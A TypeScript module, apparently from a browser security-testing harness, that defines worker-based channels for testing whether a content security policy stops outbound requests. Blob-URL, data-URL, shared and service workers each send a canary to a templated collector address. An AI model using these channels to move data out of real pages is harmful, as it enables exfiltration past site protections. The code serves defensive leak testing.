/**
 * Channels through a worker. A worker takes the policy of its own response, so each kind of file that a server might
 * forget is tried: a script at the root, a module under the assets, a script that opens a socket, a service worker.
 */
import type { Channel } from "./channel.ts";

export const workerChannels = [
  {
    id: "worker-fetch",
    family: "worker",
    short: true,
    run: ({ http, canary }) => {
      const worker = new Worker(attack.scriptUrl("/attack-worker.js"));
      attack.kept.push(worker);
      worker.postMessage(`${http}/x?${canary}`);
    },
  },
  {
    id: "asset-worker-fetch",
    family: "worker",
    run: ({ http, canary }) => {
      const worker = new Worker(attack.scriptUrl("/assets/attack-worker.js"), { type: "module" });
      attack.kept.push(worker);
      worker.postMessage(`${http}/x?${canary}`);
    },
  },
  {
    id: "worker-web-socket",
    family: "worker",
    run: ({ webSocket, canary }) => {
      const worker = new Worker(attack.scriptUrl("/attack-worker.js"));
      attack.kept.push(worker);
      worker.postMessage(`${webSocket}/x?${canary}`);
    },
  },
  {
    id: "blob-worker-fetch",
    family: "worker",
    run: ({ http, canary }) => {
      const source = 'onmessage = (event) => void fetch(event.data, { mode: "no-cors" })';
      const address = URL.createObjectURL(new Blob([source], { type: "text/javascript" }));
      const worker = new Worker(attack.scriptUrl(address));
      attack.kept.push(worker);
      worker.postMessage(`${http}/x?${canary}`);
    },
  },
  {
    id: "data-shared-worker",
    family: "worker",
    run: ({ http, canary }) => {
      const source = `fetch("${http}/x?${canary}", { mode: "no-cors" })`;
      const address = `data:text/javascript,${encodeURIComponent(source)}`;
      attack.kept.push(new SharedWorker(attack.scriptUrl(address)));
    },
  },
  {
    id: "service-worker",
    family: "worker",
    short: true,
    run: async ({ http, canary }) => {
      const script = attack.scriptUrl("/attack-service-worker.js");
      const registration = await navigator.serviceWorker.register(script, { scope: "/attack-scope/" });
      const worker = registration.installing ?? registration.waiting ?? registration.active;
      worker?.postMessage(`${http}/x?${canary}`);
    },
  },
] as const satisfies readonly Channel[];
